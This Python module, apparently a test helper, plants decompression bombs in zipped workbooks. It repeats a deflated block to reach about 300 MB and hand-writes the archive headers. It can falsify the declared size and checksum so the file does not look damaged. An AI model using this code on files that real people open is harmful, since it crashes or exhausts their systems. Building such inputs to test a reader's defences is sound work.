"""Puts bombs into zipped workbooks: parts that hold far more than the file's size lets one think, or than they say."""

import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

_BLOCK = 1024 * 1024
_BLOCKS = 300


@dataclass(frozen=True, slots=True)
class Bomb:
    """What becomes of one part.

    Attributes:
        part: Its name.
        before: The bytes of it before which the filling goes; at its end if empty.
        filling: What is repeated until there are 300 MB.
        claimed: The size that the archive's directory says, None for the real one.
        checked: Whether the checksum is that of as much as the directory says, so that nothing looks damaged.
    """

    part: str
    before: bytes
    filling: bytes
    claimed: int | None = None
    checked: bool = False


def plant(path: Path, bomb: Bomb) -> None:
    """Put a bomb into a workbook, in place; the file grows by some 300 KB."""
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            if name != bomb.part:
                new.writestr(name, content)
    _append(path, bomb, parts[bomb.part])


def _append(path: Path, bomb: Bomb, content: bytes) -> None:
    """Add a part to an archive, its header and its line in the directory written by hand."""
    place = content.index(bomb.before) if bomb.before else len(content)
    block = bomb.filling * (_BLOCK // len(bomb.filling))
    packed = _deflate(content[:place], block, content[place:])
    size = len(content) + _BLOCKS * len(block)
    shown = (content[:place] + block)[: bomb.claimed] if bomb.checked else b""
    check = zlib.crc32(shown) if bomb.checked else _sum_up(content[:place], block, content[place:])
    name = bomb.part.encode()
    facts = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, check, len(packed), bomb.claimed or size)
    facts += struct.pack("<HH", len(name), 0)
    archive = path.read_bytes()
    end = archive.rindex(b"PK\x05\x06")
    count, length, start = struct.unpack_from("<HII", archive, end + 10)
    local = b"PK\x03\x04" + facts + name + packed
    listed = b"PK\x01\x02" + struct.pack("<H", 20) + facts + struct.pack("<HHHII", 0, 0, 0, 0, start) + name
    directory = archive[start : start + length] + listed
    last = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count + 1, count + 1, len(directory), start + len(local), 0)
    path.write_bytes(archive[:start] + local + directory + last)


def _deflate(head: bytes, block: bytes, tail: bytes) -> bytes:
    """Pack one block and repeat what came out, which takes no time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    packed += (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)) * _BLOCKS
    return packed + packer.compress(tail) + packer.flush()


def _sum_up(head: bytes, block: bytes, tail: bytes) -> int:
    check = zlib.crc32(head)
    for _ in range(_BLOCKS):
        check = zlib.crc32(block, check)
    return zlib.crc32(tail, check)
